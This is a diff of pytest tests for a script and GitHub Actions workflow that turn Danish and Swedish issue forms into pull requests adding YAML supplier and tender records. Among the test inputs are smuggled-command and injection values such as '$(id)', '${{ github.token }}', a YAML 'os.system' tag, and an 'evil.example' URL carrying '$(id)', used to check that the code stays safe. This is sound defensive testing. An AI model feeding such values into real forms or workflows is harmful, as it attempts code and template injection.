+    assert forms.defuse("x" * 500).endswith("…") and len(forms.defuse("x" * 500)) == 200
+
+
+def test_an_issue_that_is_no_form_is_answered_in_both_languages(tmp_path):
+    repo, result = convert(tmp_path, "Hej! Kan I hjælpe os?\n\n### Noget\n\ntekst")
+    assert (result.ok, result.kind, result.lang) == (False, None, None)
+    assert forms.load_texts("da")["problems"]["form_unknown"] in result.reply
+    assert forms.load_texts("sv")["problems"]["form_unknown"] in result.reply
+
+
+def test_a_deleted_heading_is_named(tmp_path):
+    body = fixture("interesse").replace("### Indkøbet\n\n", "")
+    repo, result = convert(tmp_path, body, labels=("form", "lang:da"))
+    assert not result.ok and "Overskriften 'Indkøbet' mangler." in result.reply
+
+
+# ------------------------------------------------------------------------------------------------ YAML emitter
+
+TRICKY = ["yes", "NO", "off", "0701234567", "+4512345678", "12:30", "2026-01-01", "null", "~", "1e3", "0x1F",
+          "- item", "? key", ": x", "@user", "`id`", "'", '"', "a: b", "a #b", "{x: 1}", "[x]", "*alias", "&anchor",
+          "!!python/object:os.system", "%TAG", "|", ">", "---", "...", " leading", "trailing ", "tab\there",
+          "line\nbreak", "trailing spaces  \nnext", "\n\nstarts with blank lines", "bell\x07", "nel\x85x",
+          "sep\u2028x", "bom\ufeffx", "emoji 🚲 og æøå", "$(id)", "${{ github.token }}", "\\back\\slash"]
+
+
+@pytest.mark.parametrize("text", TRICKY)
+def test_emitted_yaml_reads_back_as_exactly_the_text(text):
+    data = {"name": text, "summary": {"da": text}, "categories": [text], "contacts": [{"name": text}]}
+    out, rewritten = forms.emit_record(data, "supplier.schema.json")
+    assert load_text(out, "x").data == data and not rewritten
+    edited, rewritten = forms.edit_record(out, [("set", ("website",), text), ("append", ("categories",), text)], {})
+    assert load_text(edited, "x").data == {**data, "website": text, "categories": [text, text]} and not rewritten
+
+
+def test_an_unfaithful_emitter_is_caught_and_the_plain_one_used(tmp_path, monkeypatch):
+    monkeypatch.setattr(forms, "dump_round_trip", lambda tree: "name: [broken\n")
+    repo, result = convert(tmp_path, fixture("ret-profil"))
+    assert result.ok and data_of(repo, result.path)["employees"]["total"] == 20
+    assert forms.load_texts("da")["pr"]["rewritten"] in result.pr_body
+    assert (repo / result.path).read_text(encoding="utf-8").startswith("# yaml-language-server: $schema=")
+
+
+# ------------------------------------------------------------------------------------------------ the script
+
+def run_script(*args, env=None):
+    return subprocess.run([sys.executable, ROOT / "scripts" / "form_to_pr.py", *map(str, args)],
+                          capture_output=True, text=True, env={**os.environ, **(env or {})})
+
+
+def test_script_writes_reply_body_and_result_then_fills_the_link(tmp_path):
+    repo = make_repo(tmp_path)
+    event_file, out, outputs = tmp_path / "event.json", tmp_path / "out", tmp_path / "github_output"
+    event_file.write_text(json.dumps(event(fixture("ny-upphandling"), number=12)), encoding="utf-8")
+    done = run_script("--event", event_file, "--root", repo, "--out", out, "--today", "2026-11-23",
+                      env={"GITHUB_OUTPUT": str(outputs)})
+    assert done.returncode == 0, done.stderr
+    result = json.loads((out / "result.json").read_text(encoding="utf-8"))
+    assert result == {"ok": True, "kind": "tender", "lang": "sv",
+                      "path": "data/tenders/lunds-fruktkorgar-till-forskolor.yml", "branch": "form/issue-12",
+                      "title": "Nytt inköp: lunds-fruktkorgar-till-forskolor", "pr": True}
+    assert outputs.read_text() == "ok=true\npr=true\n"
+    assert (repo / result["path"]).exists() and "Closes #12" in (out / "pr-body.md").read_text(encoding="utf-8")
+    url = "https://github.com/bro-socialt-indkob/bro/pull/77"
+    assert run_script("--out", out, "--pr-url", url).returncode == 0
+    reply = (out / "reply.md").read_text(encoding="utf-8")
+    assert f"Här är förslaget: {url}" in reply and forms.PR_LINK_MARKER not in reply
+    assert run_script("--out", out, "--pr-url", "https://evil.example/$(id)").returncode != 0
+
+
+def test_script_reports_problems_without_touching_the_tree(tmp_path):
+    repo = make_repo(tmp_path)
+    before = tree(repo)
+    event_file, out = tmp_path / "event.json", tmp_path / "out"
+    event_file.write_text(json.dumps(event(fixture("hostile-newline"))), encoding="utf-8")
+    done = run_script("--event", event_file, "--root", repo, "--out", out, "--today", "2026-11-23")
+    assert done.returncode == 0, done.stderr
+    assert json.loads((out / "result.json").read_text())["ok"] is False and tree(repo) == before
+    assert "Svaret skal stå på én linje." in (out / "reply.md").read_text(encoding="utf-8")
+
+
+def test_failure_answer_follows_the_issues_language(tmp_path):
+    event_file, out = tmp_path / "event.json", tmp_path / "out"
+    event_file.write_text(json.dumps(event("", labels=("form", "lang:sv"))), encoding="utf-8")
+    assert run_script("--event", event_file, "--out", out, "--failure").returncode == 0
+    assert (out / "reply.md").read_text(encoding="utf-8") == forms.load_texts("sv")["reply"]["failure"] + "\n"
+    both = forms.word_failure(event("", labels=("form",)))
+    assert forms.load_texts("da")["reply"]["failure"] in both and forms.load_texts("sv")["reply"]["failure"] in both
+
+
+# ---------------------------------------------------------------------------------------------- the workflow
+
+def test_workflow_keeps_issue_text_out_of_the_shell():
+    text = WORKFLOW.read_text(encoding="utf-8")
+    flow = yaml.safe_load(text)
+    trigger = flow.get("on", flow.get(True))
+    assert trigger == {"issues": {"types": ["opened", "edited"]}} and "pull_request_target" not in text
+    assert flow["permissions"] == {}
+    job = flow["jobs"]["convert"]
+    assert job["permissions"] == {"contents": "write", "pull-requests": "write", "issues": "write"}
+    assert "contains(github.event.issue.labels.*.name, 'form')" in job["if"]
+    for step in job["steps"]:
+        assert "${{" not in step.get("run", ""), step.get("name")
+        if "uses" in step:
+            assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
+            assert step.get("with", {}).get("persist-credentials", False) is False
+    pins = re.findall(r"uses: \S+@[0-9a-f]{40} # v\d+\.\d+\.\d+$", text, re.M)
+    assert len(pins) == sum("uses" in step for step in job["steps"]) == 2
+    convert_step = next(step for step in job["steps"] if step.get("id") == "convert")
+    assert "env" not in convert_step and '--event "$GITHUB_EVENT_PATH"' in convert_step["run"]
+
+
+def test_workflow_passes_zizmor():
+    zizmor = Path(sys.executable).parent / "zizmor"
+    assert zizmor.exists(), "zizmor is pinned in requirements.txt: run make setup"
+    done = subprocess.run([zizmor, "--offline", WORKFLOW], capture_output=True, text=True)
+    assert done.returncode == 0 and "No findings" in done.stdout + done.stderr, done.stdout + done.stderr
+
+
+FAKE_GH = """#!/bin/sh
+# A stand-in for the GitHub CLI: logs every call; knows one open pull request once it has been created.
+printf '%s\\n' "$*" >> "$FAKE_GH_DIR/calls"
+case "$1 $2" in
+  "pr list") cat "$FAKE_GH_DIR/open" 2>/dev/null || true ;;
+  "pr create") echo "https://github.com/bro-socialt-indkob/bro/pull/5" | tee "$FAKE_GH_DIR/open" ;;
+  "issue comment") cp "$5" "$FAKE_GH_DIR/comment-$(wc -l < "$FAKE_GH_DIR/calls")" ;;
+esac
+"""
+
+
+def _step(name: str) -> str:
+    steps = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"]["convert"]["steps"]
+    return next(step["run"] for step in steps if step.get("name", "").startswith(name))
+
+
+def _git(cwd: Path, *args: str) -> str:
+    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
+def test_workflow_steps_push_a_branch_open_the_pull_request_and_answer(tmp_path):
+    """The workflow's own shell steps, run against a local remote and a stand-in `gh`."""
+    repo, fake, remote = make_repo(tmp_path), tmp_path / "gh", tmp_path / "remote.git"
+    (fake / "bin").mkdir(parents=True)
+    (fake / "bin" / "gh").write_text(FAKE_GH)
+    (fake / "bin" / "gh").chmod(0o755)
+    (repo / ".venv" / "bin").mkdir(parents=True)
+    (repo / ".venv" / "bin" / "python").write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
+    (repo / ".venv" / "bin" / "python").chmod(0o755)
+    shutil.copytree(ROOT / "scripts", repo / "scripts")
+    _git(tmp_path, "init", "-q", "--bare", str(remote))
+    _git(repo, "init", "-q", "-b", "main")
+    (repo / ".git" / "info" / "exclude").write_text(".venv\nscripts\n")
+    _git(repo, "add", "-A")
+    _git(repo, "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-qm", "start")
+    _git(repo, "remote", "add", "origin", str(remote))
+    _git(repo, "push", "-q", "origin", "main")
+    env = {**os.environ, "PATH": f"{fake / 'bin'}{os.pathsep}{os.environ['PATH']}", "FAKE_GH_DIR": str(fake),
+           "RUNNER_TEMP": str(tmp_path / "runner"), "GITHUB_EVENT_PATH": str(tmp_path / "event.json"),
+           "GITHUB_OUTPUT": str(tmp_path / "outputs"), "ISSUE_NUMBER": "3", "BASE_BRANCH": "main",
+           "GH_TOKEN": "unused", "GH_REPO": "bro-socialt-indkob/bro"}
+
+    def run(body: str) -> None:
+        _git(repo, "checkout", "-q", "main")
+        (tmp_path / "event.json").write_text(json.dumps(event(body, number=3)), encoding="utf-8")
+        (tmp_path / "outputs").write_text("")
+        for name in ("Read the form", "Push the branch", "Answer on the issue"):
+            if name == "Push the branch" and "pr=true" not in (tmp_path / "outputs").read_text():
+                continue  # the step's `if: steps.convert.outputs.pr == 'true'`
+            done = subprocess.run(["bash", "-eo", "pipefail", "-c", _step(name)], cwd=repo, env=env,
+                                  capture_output=True, text=True)
+            assert done.returncode == 0, (name, done.stdout, done.stderr)
+
+    run(fixture("ny-leverandor"))
+    assert _git(remote, "log", "--format=%an|%s|%b", "form/issue-3").split("\n")[0] == \
+        "github-actions[bot]|Ny leverandør: koekkenhaven-nord-aps|Closes #3"
+    assert _git(remote, "show", "--name-only", "--format=", "form/issue-3").split() == \
+        ["data/suppliers/koekkenhaven-nord-aps.yml"]
+    calls = (fake / "calls").read_text(encoding="utf-8").splitlines()
+    assert any(c.startswith("pr create --base main --head form/issue-3 --title Ny leverandør: ") for c in calls)
+    comment = (fake / f"comment-{len(calls)}").read_text(encoding="utf-8")
+    assert "Her er forslaget: https://github.com/bro-socialt-indkob/bro/pull/5" in comment
+    assert forms.PR_LINK_MARKER not in comment
+    # The submitter edits the issue: the branch is rebuilt and the same pull request updated.
+    run(replace_answer(fixture("ny-leverandor"), "Antal ansatte i alt", "15"))
+    calls = (fake / "calls").read_text(encoding="utf-8").splitlines()
+    assert sum(c.startswith("pr create") for c in calls) == 1 and calls[-2].startswith("pr edit https://")
+    text = _git(remote, "show", "form/issue-3:data/suppliers/koekkenhaven-nord-aps.yml")
+    assert "total: 15" in text and _git(remote, "rev-list", "--count", "main..form/issue-3").strip() == "1"
+    # A body with problems: no push, only an answer.
+    before = _git(remote, "rev-parse", "form/issue-3")
+    run(fixture("hostile-newline"))
+    assert _git(remote, "rev-parse", "form/issue-3") == before
+    calls = (fake / "calls").read_text(encoding="utf-8").splitlines()
+    assert calls[-1].startswith("issue comment 3") and not calls[-2].startswith("pr ")
+    assert "Svaret skal stå på én linje." in (fake / f"comment-{len(calls)}").read_text(encoding="utf-8")
